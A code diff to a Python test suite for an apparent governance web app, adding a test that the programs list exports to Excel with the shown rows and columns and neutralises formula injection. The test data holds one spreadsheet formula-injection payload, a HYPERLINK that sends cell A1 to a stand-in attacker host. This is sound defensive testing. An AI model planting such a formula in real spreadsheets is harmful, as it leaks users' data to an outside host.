@@ -1,7 +1,9 @@
 """The Programs pages through app.py: list, detail by deep link, and the create/edit form, in en and nl."""
+import io
 from datetime import date
 
 import pytest
+from openpyxl import load_workbook
 from sqlalchemy import func, select, text
 
 from cxgov.db import session_scope
@@ -10,7 +12,10 @@ from cxgov.models import AuditEvent, Initiative, InitiativeKpi, KpiReading, Role
 from cxgov.permissions import SYSTEM_ACTOR
 from cxgov.services.budget import record_expense, set_budget_line
 from cxgov.services.initiatives import record_check_in, update_initiative
+from cxgov.io.export import to_xlsx
 from cxgov.services.kpis import create_kpi
+from cxgov.ui import initiative_table
+from cxgov.ui import initiatives as initiatives_ui
 from cxgov.ui.safe import plain
 from tests.factories import add_initiative, add_person
 from tests.pages.harness import link_table, open_page, texts
@@ -288,3 +293,32 @@ def test_a_closed_initiative_offers_no_check_in(monkeypatch, db):
         assert not at.exception, at.exception
         labels[initiative] = [b.label for b in at.button]
     assert "Record check-in" in labels[running] and "Record check-in" not in labels[done]
+
+
+@pytest.mark.parametrize("lang", LANGS)
+def test_the_list_exports_the_rows_and_columns_shown(monkeypatch, db, lang):
+    url, engine = db
+    ids = _seed(engine)
+    hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"invoice")'
+    add_initiative(engine, owner_id=ids["owner"], title=hostile)
+    sheets = []
+    spied = initiative_table.initiative_sheet
+    monkeypatch.setattr(initiatives_ui, "initiative_sheet", lambda *a: sheets.append(spied(*a)) or sheets[-1])
+    at = open_page(monkeypatch, url, "initiatives", lang=lang, query={"q": "invoice"})  # a filtered list
+    assert not at.exception, at.exception
+    [button] = at.get("download_button")
+    assert button.proto.label == t("export.initiatives", lang)
+    shown = link_table(at, "initiatives_table").frame
+    workbook = load_workbook(io.BytesIO(to_xlsx(sheets[-1])))
+    rows = [[cell for cell in row] for row in workbook.active.iter_rows()]
+    assert [c.value for c in rows[0]] == list(shown.columns)  # the columns shown, in the reader's language
+    assert len(rows) - 1 == len(shown) == 2  # the rows shown: the filter holds
+    by_title = {row[0].value: row for row in rows[1:]}
+    assert set(by_title) == {"Plain-language invoices", "'" + hostile}  # text, a formula start neutralised
+    assert all(cell.data_type != "f" for row in rows for cell in row)
+    invoices = dict(zip(shown.columns, by_title["Plain-language invoices"], strict=True))
+    assert invoices[t("portfolio.col.health", lang)].value == t("enum.health.red", lang)
+    assert invoices[t("portfolio.col.progress", lang)].value == pytest.approx(0.4)
+    planned = invoices[t("portfolio.col.planned", lang)]
+    assert planned.value == pytest.approx(1234.56) and "€" in planned.number_format  # euros, not cents
+    assert invoices[t("portfolio.col.target", lang)].value is None  # no target date: an empty cell
